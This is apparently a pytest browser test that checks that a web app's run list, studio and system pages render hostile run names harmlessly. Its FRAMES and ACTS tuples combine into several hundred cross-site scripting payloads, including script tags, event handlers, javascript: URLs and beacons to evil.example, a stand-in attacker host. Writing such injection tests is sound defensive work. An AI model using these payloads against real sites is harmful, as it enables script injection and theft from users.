"""Protects people from names: no text of a user runs, shows as markup, or calls another host."""

import itertools
import os
from contextlib import closing

import pytest
from playwright.sync_api import expect

from core.experiment import model
from core.experiment.templates import template
from core.records import RunState
from core.store.catalog import Catalog
from tests.conftest import App

pytestmark = pytest.mark.browser

ACTS = ("alert(1)", "fetch('http://evil.example/')", "document.title='taken'", "parent.alert(1)",
        "new Image().src='http://evil.example'")
FRAMES = (
    "<script>{}</script>", "<img src=x onerror={}>", '"><img src=x onerror="{}">', "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>", "[x](javascript:{})", "![x](http://evil.example/x.png){}",
    "<body onload={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<math href='javascript:{}'>",
    "${{{}}}", "{{{{{}}}}}", "';{};//", '";{};//', "`;{};//", "</title><script>{}</script>",
    "</style><script>{}</script>", "<!--><script>{}</script>", "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>", "<form action='javascript:{}'><button>", "<base href='http://evil.example/'>{}",
    "<link rel=stylesheet href=http://evil.example/>{}", "<meta http-equiv=refresh content='0;http://evil.example'>{}",
    "<style>@import 'http://evil.example/';</style>{}", "<div style='background:url(http://evil.example)'>{}",
    "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}", "<ScRiPt>{}</sCrIpT>", "<<script>script>{}",
    "<img src='http://evil.example/x'>{}", ":material/home: $x^2$ {}", "<b>{}</b>", "=HYPERLINK(\"http://evil.example\")",
    "%3Cscript%3E{}%3C/script%3E", "<script src=http://evil.example/x.js></script>{}",
    "\x00<script>{}</script>", "<marquee onstart={}>", "<select autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>", "<audio src onerror={}>",
    "<isindex type=image src=1 onerror={}>", "<template><script>{}</script></template>", "<x onclick={}>x",
    "<noscript><p title='</noscript><script>{}</script>'>", "javascript:{}",
)
STRINGS = [(frame.replace("{}", act) if "{}" in frame else frame + act)
           for frame, act in itertools.product(FRAMES, ACTS * 2)]


@pytest.fixture
def hostile(own_app) -> App:
    """An app whose store is full of runs with hostile names and reasons."""
    started = own_app()
    experiment = model.write(template("two-spirals").experiment)
    with closing(Catalog(started.store)) as catalog:
        for text in STRINGS:
            asked = {**experiment, "name": text[:120]}
            run = catalog.add_run(asked, text[:200], os.urandom(8).hex(), None, text[:30])
            catalog.set_state(run, RunState.INTERRUPTED, reason=text)
    return started


def untouched(tab) -> None:
    assert tab.popped == []
    assert tab.foreign == []
    assert tab.page.title() != "taken"
    assert tab.page.locator("img[src=x], iframe[srcdoc], base, marquee").count() == 0


def test_hostile_names_do_nothing_anywhere(hostile, studio, tab):
    assert len(STRINGS) >= 500
    listed = tab("/runs", at=hostile)
    table = listed.page.locator("canvas").first
    table.wait_for()
    for row in (1, 2, 3):  # laid over each other: their names stand in the chart and over the table
        table.click(position={"x": 16, "y": 16 + 33 * row}, force=True)
        listed.page.wait_for_timeout(300)
    listed.page.get_by_text("Differences").wait_for()
    untouched(listed)
    worked = studio(at=hostile)
    worked.page.get_by_role("button", name="Runs").click()
    expect(worked.page.locator(".ls-runs tbody tr:not(.ls-run-said)")).to_have_count(len(STRINGS))
    expect(worked.page.locator(".ls-run-said")).to_have_count(len(STRINGS))  # why each ended
    untouched(worked)
    for run in (1, 17, 33, 480):
        worked.page.goto(f"{hostile.url}/?run={run}")
        worked.page.locator(".ls-box").first.wait_for()
        untouched(worked)
    system = tab("/system", at=hostile)
    system.page.get_by_text("Versions").wait_for()
    untouched(system)
